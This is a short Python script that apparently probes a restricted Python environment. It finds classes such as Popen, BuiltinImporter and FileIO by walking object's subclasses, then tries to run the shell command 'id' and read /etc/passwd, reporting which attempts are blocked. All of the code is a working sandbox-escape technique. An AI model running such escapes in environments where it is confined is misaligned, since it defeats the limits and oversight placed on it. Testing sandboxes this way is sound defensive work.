def attempt(name, act):
    try:
        print(f"{name}: {act()!r}")
    except BaseException as error:
        print(f"{name}: {type(error).__name__} {getattr(error, 'code', '')}".rstrip())


def walk(cls, seen):
    if cls in seen:
        return
    seen.add(cls)
    for inner in type.__subclasses__(cls):
        walk(inner, seen)


try:
    import subprocess
except ImportError:
    print("no subprocess")

seen = set()
walk(object, seen)
by_name = {}
for cls in sorted(seen, key=lambda cls: (cls.__module__, cls.__qualname__)):
    by_name.setdefault(cls.__name__, cls)

attempt("Popen", lambda: by_name["Popen"](["/bin/sh", "-c", "id"], stdout=-1).communicate())
attempt("BuiltinImporter", lambda: by_name["BuiltinImporter"].load_module("posix").system("id"))
attempt("FileLoader", lambda: by_name["FileLoader"]("x", "/etc/passwd").get_data("/etc/passwd"))
attempt("FileIO", lambda: by_name["FileIO"]("/etc/passwd").read())
attempt("FileFinder", lambda: by_name["FileFinder"]("/etc").find_spec("passwd"))
attempt("DirEntry", lambda: by_name["DirEntry"]())
